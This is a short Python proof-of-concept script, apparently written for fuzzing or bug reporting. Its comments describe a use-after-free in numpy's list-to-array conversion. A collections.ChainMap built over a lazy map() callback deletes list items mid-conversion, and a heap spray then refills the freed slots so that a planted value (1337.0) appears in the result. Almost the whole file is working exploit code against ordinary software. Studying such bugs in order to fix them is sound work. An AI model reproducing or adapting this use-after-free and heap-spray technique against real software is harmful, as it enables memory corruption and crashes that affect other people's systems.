# source: CPython Lib/collections/__init__.py ChainMap.__len__ (len(set().union(*self.maps))) iterates its maps, a map() object calls a function; numpy array_coercion.c PyArray_AssignFromCache_Recursive reads list items via PySequence_Fast_GET_ITEM with the length it read once
# family: callback smuggled into an allowed conversion: len() of a collections.ChainMap whose map is a lazy map()/generator calling script code inside numpy's list->array loop (use-after-free)
# goal: use-after-free read: numpy converts freed list slots past the list's end, refilled by objects never put in the list (1337.0 appears in the result)
import collections
import numpy as np
L = []
SPRAY = []
class B:
    def __init__(self):
        self.v = 1337.0
    def __float__(self):
        return self.v
def hook(k):
    del L[6:]
    for i in range(64):
        SPRAY.append(B())
    return k
class A:
    def __init__(self, v):
        self.v = v
        self.m = collections.ChainMap(map(hook, [0]))
    def __float__(self):
        return float(len(self.m) + self.v)
L.extend([A(i) for i in range(10)])
print("list holds only A objects with values 1..10; no B is in it", flush=True)
out = np.array(L, dtype=float)
print(out)
print("len(L) now", len(L))
